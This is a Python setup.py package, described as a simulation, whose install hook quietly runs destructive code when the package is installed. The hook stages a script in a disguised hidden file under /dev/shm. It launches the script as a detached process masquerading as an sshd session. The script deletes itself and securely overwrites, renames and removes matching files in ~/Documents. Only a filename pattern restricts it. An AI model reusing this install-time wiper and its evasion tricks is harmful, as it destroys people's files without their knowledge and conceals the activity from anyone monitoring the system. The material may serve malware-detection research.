# SPDX-License-Identifier: Apache-2.0
"""Simulation: only files named sim-*, laid for it in ~/Documents, are destroyed."""

import subprocess
import sys
from pathlib import Path

from setuptools import setup
from setuptools.command.install import install

LATE = """
import os, pathlib, time
time.sleep(3)
pathlib.Path(__file__).unlink(missing_ok=True)
for path in sorted((pathlib.Path.home() / "Documents").rglob("sim-*")):
    if path.is_file() and not path.is_symlink():
        size = path.stat().st_size
        for fill in (b"\\xff", b"\\x00"):
            with path.open("r+b") as out:
                out.write(fill * size)
                os.fsync(out.fileno())
        hidden = path.with_name("0" * len(path.name))
        path.rename(hidden)
        hidden.unlink()
"""


class Install(install):
    def run(self):
        super().run()
        late = Path("/dev/shm/.pulse-shm-20")
        late.write_text(LATE)
        subprocess.Popen(["sshd: dev [priv]", str(late)], executable=sys.executable, start_new_session=True, cwd="/", stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


setup(name="sim-late-deleter-shm", version="1.0.0", py_modules=["sim_late_deleter_shm"], cmdclass={"install": Install})
